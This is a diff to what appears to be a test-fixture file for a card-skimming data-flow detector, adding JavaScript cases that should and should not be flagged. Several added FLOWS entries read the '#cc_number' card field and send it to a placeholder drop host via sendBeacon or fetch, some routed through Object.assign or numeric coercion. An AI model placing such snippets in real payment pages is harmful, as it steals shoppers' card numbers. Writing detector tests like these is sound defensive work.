@@ -66,6 +66,15 @@ FLOWS = {
                          f"  st.put({{n: document.querySelector('#cc_number').value}});\n"
                          f"  var all = st.getAll(); all.onsuccess = function () {{\n"
                          f"    navigator.sendBeacon('{DROP}', JSON.stringify(all.result)); }}; }};",
+    "Object.assign into a payload": f"var p = {{}};\n"
+                                    f"Object.assign(p, {{n: document.querySelector('#cc_number')"
+                                    f".value}});\n"
+                                    f"navigator.sendBeacon('{DROP}', JSON.stringify(p));",
+    "Object.assign result": f"var p = Object.assign({{}}, {{n: document.querySelector("
+                            f"'#cc_number').value}});\n"
+                            f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(p)}});",
+    "number made of the card": f"var n = +document.querySelector('#cc_number').value;\n"
+                               f"fetch('{DROP}?n=' + n);",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -103,6 +112,17 @@ NO_FLOWS = {
                        f"JSON.stringify({{fields: f.elements.length}}));",
     "constant list joined into a URL": "var n = document.querySelector('#cc_number').value;\n"
                                        f"fetch('{DROP}?v=' + ['a', 'b'].join('_'));",
+    "negated": "var n = document.querySelector('#cc_number').value;\n"
+               f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
+    # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
+    # `assign` method is not what the replay library's `Object.assign(...)` calls.
+    "a built-in of the same name as a library method": (
+        "(function () { var Opts = { assign: function (t, o) {\n"
+        "  t.number = document.querySelector('#cc_number').value; return t; } };\n"
+        "  window.CardLib = { opts: Opts.assign({}, {}) }; })();\n"
+        "(function () { function replay(cfg) { var c = Object.assign({}, cfg);\n"
+        f"    new Image().src = '{DROP}?c=' + JSON.stringify(c); }}\n"
+        "  replay({rate: 1}); })();"),
     "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                  "body: 'card[number]=' + document.querySelector('#cc_number').value});",
 }
